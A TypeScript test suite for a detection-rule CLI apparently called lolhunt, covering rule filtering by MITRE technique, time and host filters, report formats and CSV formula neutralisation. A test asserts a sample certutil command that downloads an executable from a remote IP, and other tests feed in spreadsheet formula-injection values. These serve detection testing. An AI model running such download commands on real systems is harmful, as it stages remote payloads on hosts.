import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { parse as parseToml } from 'smol-toml';
import { BIN, parseNdjson, ROOT, runCli } from '../helpers/run-cli.js';

const tmpDir = () => fs.mkdtempSync(path.join(os.tmpdir(), 'lolhunt-reports-'));
const ndjson = (docs: object[]) => docs.map((d) => JSON.stringify(d)).join('\n') + '\n';

interface RuleToml { rule: { name: string; severity: string; tags?: string[]; threat?: { tactic: { id: string }; technique?: { id: string; subtechnique?: { id: string }[] }[] }[] } }
const builtin = fs.readdirSync(path.join(ROOT, 'rules')).map((f) => parseToml(fs.readFileSync(path.join(ROOT, 'rules', f), 'utf8')) as unknown as RuleToml);
const names = (rules: RuleToml[]) => rules.map((r) => r.rule.name).sort();
const listed = (stdout: string) => stdout.trim().split('\n').filter(Boolean).map((l) => l.replace(/^\S+\s+\S+\s+\d+\s+/, '')).sort();

test('rules list filters: severity, tag, tactic, technique (with sub-techniques), os, name glob, exclusion', async () => {
  const techniques = (r: RuleToml) => (r.rule.threat ?? []).flatMap((t) => (t.technique ?? []).flatMap((x) => [x.id, ...(x.subtechnique ?? []).map((s) => s.id)]));
  const cases: [string[], RuleToml[]][] = [
    [['--min-severity', 'medium'], builtin.filter((r) => r.rule.severity !== 'low')],
    [['--tag', 'tactic: command*'], builtin.filter((r) => (r.rule.tags ?? []).some((t) => t.startsWith('Tactic: Command')))],
    [['--tactic', 'TA0005'], builtin.filter((r) => (r.rule.threat ?? []).some((t) => t.tactic.id === 'TA0005'))],
    [['--technique', 'T1218'], builtin.filter((r) => techniques(r).some((id) => id === 'T1218' || id.startsWith('T1218.')))],
    [['--technique', 'T1218.011'], builtin.filter((r) => techniques(r).includes('T1218.011'))],
    [['--os', 'macos'], builtin.filter((r) => (r.rule.tags ?? []).includes('OS: macOS'))],
    [['--rule', '*certutil*', '--rule', '*UNSIGNED*'], builtin.filter((r) => /certutil|unsigned/i.test(r.rule.name))],
    [['--exclude-rule', 'Network Connection via *'], builtin.filter((r) => !r.rule.name.startsWith('Network Connection via '))],
    [['--os', 'windows', '--min-severity', 'medium'], builtin.filter((r) => (r.rule.tags ?? []).includes('OS: Windows') && r.rule.severity !== 'low')],
  ];
  const runs = await Promise.all(cases.map(([args]) => runCli(['rules', 'list', ...args])));
  cases.forEach(([args, expected], i) => {
    assert.ok(expected.length > 0 && expected.length < builtin.length, `case ${args.join(' ')} does not discriminate`);
    assert.equal(runs[i]!.code, 0, runs[i]!.stderr);
    assert.deepEqual(listed(runs[i]!.stdout), names(expected), args.join(' '));
  });
});

test('deprecated rules are skipped unless --include-deprecated; -r is repeatable; typos get suggestions', async () => {
  const dir = tmpDir();
  const certutil = path.join(ROOT, 'rules', 'network-connection-via-certutil.toml');
  const old = fs.readFileSync(certutil, 'utf8').replace('maturity = "production"', 'maturity = "deprecated"').replace(/rule_id = "[^"]+"/, 'rule_id = "old-one"').replace('name = "Network Connection via Certutil"', 'name = "Deprecated - Certutil"');
  fs.writeFileSync(path.join(dir, 'old.toml'), old);
  const macos = path.join(ROOT, 'rules', 'suspicious-outbound-network-connection-via-unsigned-binary-macos.toml');
  const both = await runCli(['rules', 'list', '-r', dir, '-r', macos]);
  assert.deepEqual(listed(both.stdout), ['Suspicious Outbound Network Connection via Unsigned Binary']);
  const withOld = await runCli(['rules', 'list', '-r', dir, '-r', macos, '--include-deprecated']);
  assert.deepEqual(listed(withOld.stdout), ['Deprecated - Certutil', 'Suspicious Outbound Network Connection via Unsigned Binary']);
  const scan = await runCli(['scan', '-r', dir, '-r', macos, 'samples/', '--format', 'json']);
  const summary = (JSON.parse(scan.stdout) as { summary: { rule_set: Record<string, unknown> } }).summary;
  assert.deepEqual(summary.rule_set, { paths: [dir, macos], loaded: 2, ran: 1, deprecated_skipped: 1, filtered_out: 0 });
  assert.match(scan.stderr, /^rules\s+1 ran \(left out: 1 deprecated\)/m);
  const onlyOld = await runCli(['scan', '-r', dir, 'samples/']);
  assert.equal(onlyOld.code, 2);
  assert.match(onlyOld.stderr, /--include-deprecated/);
  const typo = await runCli(['scan', '--rule', 'Network Conection via Certutil', 'samples/']);
  assert.equal(typo.code, 2);
  assert.match(typo.stderr, /no rule matches 'Network Conection via Certutil' \(did you mean 'Network Connection via Certutil'/);
  const show = await runCli(['rules', 'show', 'certutil']);
  assert.equal(show.code, 2);
  assert.match(show.stderr, /did you mean 'Network Connection via Certutil'/);
});

const allAlerts = async (extra: string[] = []) => parseNdjson((await runCli(['scan', 'samples/', '--format', 'ndjson', ...extra])).stdout);
type AlertRec = { events: { '@timestamp': string; source: { host?: { name?: string }; 'host.name'?: string } }[] };

test('--from/--to (absolute and relative to the newest event) and --host', async () => {
  const all = (await allAlerts()) as unknown as AlertRec[];
  const stamps = fs.readdirSync(path.join(ROOT, 'samples'), { recursive: true }).map(String).filter((f) => f.endsWith('.ndjson'))
    .flatMap((f) => fs.readFileSync(path.join(ROOT, 'samples', f), 'utf8').split('\n').filter(Boolean).map((l) => Date.parse((JSON.parse(l) as Record<string, string>)['@timestamp']!)));
  const newest = Math.max(...stamps);
  const inside = (from: number, to = Infinity) => all.filter((a) => a.events.every((e) => !e['@timestamp'] || (Date.parse(e['@timestamp']) >= from && Date.parse(e['@timestamp']) <= to)));
  const relative = await allAlerts(['--from', '3m']);
  assert.deepEqual(relative, inside(newest - 180_000));
  assert.ok(relative.length > 0 && relative.length < all.length);
  const from = '2024-05-14T09:00:30Z';
  const to = '2024-05-14T09:02:00Z';
  const absolute = await allAlerts(['--from', from, '--to', to]);
  assert.deepEqual(absolute, inside(Date.parse(from), Date.parse(to)));
  assert.ok(absolute.length > 0 && absolute.length < all.length);
  const bad = await runCli(['scan', 'samples/', '--from', 'yesterday']);
  assert.equal(bad.code, 2);
  const host = (a: AlertRec) => a.events[0]!.source.host?.name ?? a.events[0]!.source['host.name'];
  const srv = await allAlerts(['--host', 'srv-*']);
  assert.deepEqual(srv, all.filter((a) => /^srv-/i.test(host(a) ?? '')));
  assert.ok(srv.length > 0);
});

test('--tz shows local times in the table; machine formats stay UTC; an unknown zone is exit 2', async () => {
  const run = await runCli(['scan', 'samples/', '--format', 'table', '--tz', 'Europe/Berlin'], { env: { COLUMNS: '200' } });
  assert.match(run.stdout, /2024-05-14 11:00:05\+02:00/, 'first alert 09:00:05Z is 11:00:05 in Berlin (CEST)');
  const md = await runCli(['scan', 'samples/', '--format', 'markdown', '--tz', 'America/New_York']);
  assert.match(md.stdout, /2024-05-14T05:00:05\.000-04:00/);
  assert.equal((await runCli(['scan', 'samples/', '--tz', 'Mars/Olympus'])).code, 2);
});

test('-o picks the format from the extension; an unknown extension is exit 2 and writes nothing', async () => {
  const dir = tmpDir();
  const checks: Record<string, (text: string) => void> = {
    'r.csv': (t) => assert.match(t, /^timestamp,rule_id,rule_name,severity,/),
    'r.html': (t) => assert.match(t, /^<!DOCTYPE html>/),
    'r.json': (t) => assert.deepEqual(Object.keys(JSON.parse(t) as object), ['version', 'summary', 'rules', 'alerts']),
    'r.ndjson': (t) => assert.equal(parseNdjson(t).length, 12),
    'r.md': (t) => assert.match(t, /^# lolhunt report/),
  };
  const runs = await Promise.all(Object.keys(checks).map((file) => runCli(['scan', 'samples/', '-q', '-o', path.join(dir, file)])));
  Object.entries(checks).forEach(([file, check], i) => {
    assert.equal(runs[i]!.code, 1, runs[i]!.stderr);
    check(fs.readFileSync(path.join(dir, file), 'utf8'));
  });
  const txt = await runCli(['scan', 'samples/', '-o', path.join(dir, 'r.txt')]);
  assert.equal(txt.code, 2);
  assert.match(txt.stderr, /cannot tell the format of .*r\.txt/);
  assert.equal(fs.existsSync(path.join(dir, 'r.txt')), false);
  assert.equal((await runCli(['scan', 'samples/', '-q', '--format', 'ndjson', '-o', path.join(dir, 'r.txt')])).code, 1, '--format wins');
});

test('csv: one row per alert, quoted, formula cells neutralised', async () => {
  const dir = tmpDir();
  const base = { host: { name: '=HYPERLINK("http://x")' }, process: { entity_id: 'f1', name: 'certutil.exe', pid: 1 } };
  fs.writeFileSync(path.join(dir, 'in.ndjson'), ndjson([
    { '@timestamp': '2024-05-14T08:00:00Z', event: { category: ['process'], type: ['start'] }, ...base, process: { ...base.process, command_line: '@SUM(1+1),"x"\ny' } },
    { '@timestamp': '2024-05-14T08:00:01Z', event: { category: ['network'] }, ...base, destination: { ip: '8.8.4.4', port: 80 } },
  ]));
  const run = await runCli(['scan', dir, '--format', 'csv']);
  const rows = run.stdout.split('\r\n');
  assert.equal(rows[0], 'timestamp,rule_id,rule_name,severity,risk_score,tactics,techniques,host,user,process,command_line,destination,file,line,event_count,join_keys,building_block');
  assert.match(rows[1]!, /,"'=HYPERLINK\(""http:\/\/x""\)",/);
  assert.match(run.stdout, /,"'@SUM\(1\+1\),""x""\ny",/);
});

test('exit 3 names the alert counts on stderr, even with -q', async () => {
  const run = await runCli(['scan', 'samples/', 'no-such.ndjson', '-q', '--format', 'ndjson']);
  assert.equal(run.code, 3);
  assert.match(run.stderr, /input problems \(exit 3\).*12 alerts \(2 high, 5 medium, 5 low\)/);
});

test('the table never overflows the terminal, from 80 columns up; --wide does not cut', async () => {
  const widths = [91, 137]; // 80, 100 and 200 are golden cases
  const runs = await Promise.all(widths.map((columns) => runCli(['scan', 'samples/', '--format', 'table'], { env: { COLUMNS: String(columns) } })));
  for (const [i, columns] of widths.entries()) {
    const run = runs[i]!;
    const widest = Math.max(...run.stdout.split('\n').map((l) => [...l].length));
    assert.ok(widest <= columns, `${widest} > ${columns}`);
    assert.match(run.stdout, /first event/);
    assert.match(run.stdout.replace(/\s*│\s*/g, ''), /positive\.ndjson:3/, 'file:line of the first event');
  }
  const wide = await runCli(['scan', 'samples/', '--format', 'table', '--wide'], { env: { COLUMNS: '80' } });
  assert.match(wide.stdout, /certutil\.exe -urlcache -split -f http:\/\/93\.184\.215\.14\/p\.exe C:\\Users\\Public\\p\.exe/);
});

test('progress shows on a terminal (pseudo-TTY via script), not on a pipe, not with -q', { skip: !fs.existsSync('/usr/bin/script') && 'util-linux script missing' }, () => {
  // Results to a file of the test's own: -o refuses /dev/null (a device), and stdout must stay free for the progress check.
  const out = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'lolhunt-progress-')), 'alerts.ndjson');
  const cmd = (extra: string) => `${process.execPath} ${BIN} scan ${path.join(ROOT, 'samples')} --format ndjson -o ${out} ${extra}`;
  const tty = spawnSync('script', ['-qec', cmd(''), '/dev/null'], { encoding: 'utf8', env: { PATH: process.env.PATH, NO_COLOR: '1' } });
  assert.match(tty.stdout, /\d+\/14 files · \d+ events\/s.* matching events/);
  const quiet = spawnSync('script', ['-qec', cmd('-q'), '/dev/null'], { encoding: 'utf8', env: { PATH: process.env.PATH, NO_COLOR: '1' } });
  assert.doesNotMatch(quiet.stdout, /matching events/);
  const piped = spawnSync(process.execPath, [BIN, 'scan', path.join(ROOT, 'samples'), '--format', 'ndjson'], { encoding: 'utf8' });
  assert.doesNotMatch(piped.stderr, /matching events/);
});

test('scan applies the selection options: alerts come only from the selected rules', async () => {
  const all = parseNdjson((await runCli(['scan', 'samples/', '--format', 'ndjson'])).stdout) as { rule: { name: string; severity: string; threat: { technique?: { id: string }[] }[] } }[];
  const cases: [string[], (a: (typeof all)[number]) => boolean][] = [
    [['--technique', 'T1105'], (a) => a.rule.threat.some((t) => (t.technique ?? []).some((x) => x.id === 'T1105'))],
    [['--min-severity', 'medium', '--os', 'windows'], (a) => a.rule.severity === 'medium'],
    [['--exclude-rule', '*Signed Binary*'], (a) => !/signed binary/i.test(a.rule.name)], // case-insensitive: Unsigned Binary goes too
  ];
  const runs = await Promise.all(cases.map(([args]) => runCli(['scan', 'samples/', '--format', 'ndjson', ...args])));
  cases.forEach(([args, keep], i) => {
    const expected = all.filter(keep);
    assert.ok(expected.length > 0 && expected.length < all.length, args.join(' '));
    assert.deepEqual(parseNdjson(runs[i]!.stdout), expected, args.join(' '));
  });
});

test('many non-EQL rules are reported as one line of counts by rule type, a few one by one', async () => {
  const dir = tmpDir();
  fs.copyFileSync(path.join(ROOT, 'rules', 'network-connection-via-certutil.toml'), path.join(dir, 'eql.toml'));
  const other = (type: string, language: string) => `[rule]\nname = "${type} rule"\ntype = "${type}"\nlanguage = "${language}"\nquery = "x"\n`;
  const kinds: [string, string][] = [['query', 'kuery'], ['query', 'kuery'], ['query', 'kuery'], ['esql', 'esql'], ['esql', 'esql']];
  kinds.forEach(([type, language], i) => fs.writeFileSync(path.join(dir, `other-${i}.toml`), other(type, language)));
  const many = await runCli(['rules', 'list', '-r', dir]);
  assert.equal(many.code, 0, many.stderr);
  assert.equal(many.stderr, 'lolhunt: skipped 5 rules that are not EQL (query 3, esql 2)\n');
  for (let i = 2; i < kinds.length; i++) fs.rmSync(path.join(dir, `other-${i}.toml`));
  const few = await runCli(['rules', 'list', '-r', dir]);
  assert.equal(few.stderr.split('\n').filter(Boolean).length, 2);
  assert.match(few.stderr, /skipped .*other-0\.toml: rule type 'query' \(language kuery\) is not EQL/);
});
